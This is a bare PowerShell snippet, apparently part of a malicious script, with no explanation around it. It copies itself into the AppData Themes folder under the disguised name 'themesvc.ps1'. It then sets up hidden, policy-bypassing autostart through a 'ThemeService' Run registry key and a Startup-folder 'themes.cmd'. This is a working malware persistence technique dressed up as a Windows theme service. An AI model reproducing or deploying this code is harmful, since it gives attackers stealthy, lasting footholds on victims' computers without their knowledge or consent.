$payload = "$env:APPDATA\Microsoft\Windows\Themes\themesvc.ps1"
Copy-Item -Path $PSCommandPath -Destination $payload -Force
$cmd = "powershell.exe -NoP -W Hidden -ExecutionPolicy Bypass -File `"$payload`""
Set-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'ThemeService' -Value $cmd
$startupCmd = "$env:APPDATA\Microsoft\Windows\Start Menu\Programs\Startup\themes.cmd"
Set-Content -Path $startupCmd -Value "@start /min powershell.exe -W Hidden -File `"$payload`""
